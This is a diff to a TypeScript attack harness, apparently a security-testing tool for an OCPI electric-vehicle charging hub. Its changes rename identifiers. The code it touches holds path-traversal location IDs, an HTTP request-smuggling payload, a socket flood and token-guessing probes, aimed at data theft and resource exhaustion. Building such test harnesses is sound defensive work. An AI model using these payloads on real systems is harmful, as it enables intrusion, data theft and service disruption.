@@ -3,7 +3,7 @@ import { Agent, request } from 'undici';
 import { cardOf, contractsOf, country, members, evil as names, partnersOf } from '../common/market.ts';
 import type { Random } from '../common/random.ts';
 import type { Json } from '../common/record.ts';
-import { raw, shout } from '../common/wire.ts';
+import { openSilentSocket, raw } from '../common/wire.ts';
 import { cdr, location, session, token } from '../partner/objects.ts';
 import { type Evil, look, parsed } from './server.ts';
 
@@ -15,7 +15,7 @@ export interface Target {
 }
 
 /** A kind of attack, repeated again and again. */
-export interface Deed {
+export interface Attack {
   /** The most milliseconds between two. */
   every: number;
   /** Makes one attack; tells whether the hub answered. */
@@ -36,7 +36,7 @@ const operators = members.filter(({ role }) => role === 'CPO').map(({ party }) =
 const contractsAt = (operator: string) => partnersOf(operator).flatMap(contractsOf);
 
 /** The attacks, from stealing data to exhausting resources. */
-export const deeds: Deed[] = [
+export const attacks: Attack[] = [
   // A1, A2, A4, A7: it asks about the drivers of others, where they charge, before and after they do.
   {
     every: 60,
@@ -90,7 +90,7 @@ export const deeds: Deed[] = [
     act: async (target, { pick, whole }) => {
       const [n, owner] = [whole(1, 99), pick(operators)];
       const id = pick(['L01', `HOME-${owner}`, '%2e%2e', `..%2f${owner}%2fL01`]);
-      const answer = await say(
+      const answer = await send(
         target,
         'CPO',
         'PUT',
@@ -123,7 +123,7 @@ export const deeds: Deed[] = [
     every: 200,
     act: async (target, { pick, whole }) => {
       const module = pick(['sessions', 'cdrs']);
-      const { status, data } = await say(
+      const { status, data } = await send(
         target,
         'EMSP',
         'GET',
@@ -131,7 +131,7 @@ export const deeds: Deed[] = [
       );
       for (const object of Array.isArray(data) ? (data as Json[]) : [])
         look(target.evil, 'is shown', module, object);
-      await say(target, 'EMSP', 'POST', 'commands/STOP_SESSION', {
+      await send(target, 'EMSP', 'POST', 'commands/STOP_SESSION', {
         response_url: 'http://127.0.0.1:1/result',
         session_id: `S1x${whole(1, 99)}`,
       });
@@ -148,7 +148,7 @@ export const deeds: Deed[] = [
         ['/ocpi/cpo/2.1.1/sessions', 'Token guessed'],
       ] as const);
       const words = raw('GET', hub, target, who).repeat(200);
-      const sockets = Array.from({ length: 5 }, () => shout(hub, words, address));
+      const sockets = Array.from({ length: 5 }, () => openSilentSocket(hub, words, address));
       await pause(1000);
       for (const socket of sockets) socket.destroy();
       return true;
@@ -168,7 +168,7 @@ export const deeds: Deed[] = [
         raw('PUT', hub, at, who, '{}').slice(0, -1),
         `GET ${at} HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
       ]);
-      const socket = shout(hub, words, address);
+      const socket = openSilentSocket(hub, words, address);
       await pause(whole(10, 500));
       socket.destroy();
       return true;
@@ -191,11 +191,11 @@ async function call(
   body?: Json,
   to?: string,
 ): Promise<boolean> {
-  return (await say(target, role, method, path, body, to)).status > 0;
+  return (await send(target, role, method, path, body, to)).status > 0;
 }
 
 /** Sends one request; status 0 means that no answer came, which proves nothing. */
-async function say(
+async function send(
   { hub, tokens }: Target,
   role: 'CPO' | 'EMSP',
   method: string,
